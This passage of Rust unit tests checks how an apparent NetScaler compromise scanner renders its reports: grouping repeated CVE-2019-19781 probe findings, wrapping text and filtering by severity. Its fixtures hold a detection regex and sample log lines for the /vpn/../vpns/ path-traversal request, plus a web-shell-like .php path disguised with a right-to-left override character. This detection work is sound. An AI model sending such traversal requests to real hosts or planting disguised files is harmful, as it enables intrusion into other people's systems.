        assert!(t.contains("Gaps: none\n"));
        assert!(t.contains("Evidence sources: none defined\n"));
    }

    fn render_view_string(r: &Report, explain: bool, min: Option<Severity>) -> String {
        let mut buf = Vec::new();
        let view = TextView {
            color: false,
            explain,
            min_severity: min,
        };
        render_view(r, &mut buf, &view).expect("writes to memory");
        String::from_utf8(buf).expect("utf-8")
    }

    /// The sample report with its low finding copied: three blocked probes from two rotations.
    fn with_repeated_probes() -> Report {
        let mut r = sample_report();
        let mut probe = r.findings[2].clone();
        probe.severity = Severity::Low;
        probe.rule = "cve-2019-19781.access-blocked-attempt".into();
        probe.reason =
            r#"log line matches `"[A-Z]{3,7} \S*/(?:\.\.)/vpns/\S* HTTP/1\.[01]" 403 `"#.into();
        probe.count = 1;
        probe.last_line = None;
        probe.last_excerpt = None;
        let t = |x: &str| Timestamp::parse_rfc3339(x).expect("constant time");
        for (i, (path, ip, time)) in [
            (
                "var/log/httpaccess.log",
                "203.0.113.5",
                "2020-01-20T10:00:00Z",
            ),
            (
                "var/log/httpaccess.log.0.gz",
                "203.0.113.9",
                "2020-01-10T10:00:00Z",
            ),
            (
                "var/log/httpaccess.log",
                "203.0.113.5",
                "2020-01-21T10:00:00Z",
            ),
        ]
        .into_iter()
        .enumerate()
        {
            let mut f = probe.clone();
            f.path = crate::model::EvPath::new(path);
            f.line = Some(i as u64 + 1);
            f.excerpt = Some(crate::model::Bytes(
                format!("{ip} GET /vpn/../vpns/ 403").into_bytes(),
            ));
            f.time = Some(t(time));
            f.last_time = None;
            r.findings.push(f);
        }
        r
    }

    #[test]
    fn findings_of_one_shape_are_one_entry() {
        let t = render_view_string(&with_repeated_probes(), false, None);
        assert!(t.contains("\nLOW (3)\n"), "{t}");
        assert!(t.contains("(3 matching lines in 2 files)\n"), "{t}");
        assert_eq!(
            t.matches("cve-2019-19781.access-blocked-attempt:").count(),
            1
        );
        assert!(
            t.contains("    first:   /var/log/httpaccess.log.0.gz:2 at 2020-01-10T10:00:00Z\n")
        );
        assert!(t.contains("    last:    /var/log/httpaccess.log:3 at 2020-01-21T10:00:00Z\n"));
        assert!(t.contains("    files:   /var/log/httpaccess.log, /var/log/httpaccess.log.0.gz\n"));
        assert!(t.contains("    sources: 2 distinct: 203.0.113.5, 203.0.113.9\n"));
        assert!(t.contains("    reason:  log line matches the rule's pattern\n"));
        assert!(t.contains("--explain shows them"));
    }

    #[test]
    fn explain_shows_patterns_whole_on_one_line() {
        let t = render_view_string(&with_repeated_probes(), true, None);
        let pattern = r#"`"[A-Z]{3,7} \S*/(?:\.\.)/vpns/\S* HTTP/1\.[01]" 403 `"#;
        assert!(
            t.lines().any(|l| l.contains(pattern)),
            "the pattern is cut at its spaces:\n{t}"
        );
        assert!(!t.contains("--explain shows them"));
        // A pattern too long for the line stays whole, on a line of its own.
        let mut s = String::new();
        let long = format!("matches `{}` and more words", "a b ".repeat(40));
        wrap_into(&mut s, &long, "  ", "  ");
        assert!(
            s.lines()
                .any(|l| l.trim() == format!("`{}`", "a b ".repeat(40))),
            "{s}"
        );
    }

    #[test]
    fn min_severity_lists_less_and_says_how_much() {
        let t = render_view_string(&with_repeated_probes(), false, Some(Severity::High));
        assert!(
            t.contains("FINDINGS: 7 (1 critical, 1 high, 1 medium, 3 low, 1 info)\n"),
            "{t}"
        );
        assert!(
            t.contains("  5 findings below high not listed here (--min-severity high)"),
            "{t}"
        );
        assert!(!t.contains("\nMEDIUM ("));
        assert!(!t.contains("\nLOW ("));
        assert!(t.contains("\nHIGH (1)\n"));
    }

    #[test]
    fn compromised_reports_say_what_happened_first() {
        let t = render_view_string(&sample_report(), false, None);
        let head: Vec<&str> = t
            .lines()
            .take_while(|l| !l.starts_with("POSTURE"))
            .collect();
        let head = head.join("\n");
        assert!(
            head.contains("WHAT HAPPENED (from the critical and high findings)"),
            "{head}"
        );
        assert!(
            head.contains("  Logged:    first 2020-01-11T23:41:07Z, last 2020-01-12T01:02:03Z")
        );
        assert!(
            head.contains("  Files:     /var/netscaler/logon/themes/a\\u{202e}gnp.php"),
            "{head}"
        );
        let mut clean = sample_report();
        clean.verdict = Verdict::Clean;
        let t = render_view_string(&clean, false, None);
        assert!(!t.contains("WHAT HAPPENED"));
    }

    #[test]
    fn long_reasons_wrap() {
        let mut s = String::new();
        let words = vec!["word"; 60].join(" ");
        wrap_into(&mut s, &words, "  - ", "    ");
        let lines: Vec<&str> = s.lines().collect();
        assert!(lines.len() > 2);
        assert!(lines.iter().all(|l| l.chars().count() <= WIDTH));
        assert!(lines[1].starts_with("    word"));
        assert_eq!(human_bytes(512), "512 B");
        assert_eq!(human_bytes(1536), "1.5 KiB");
    }
}
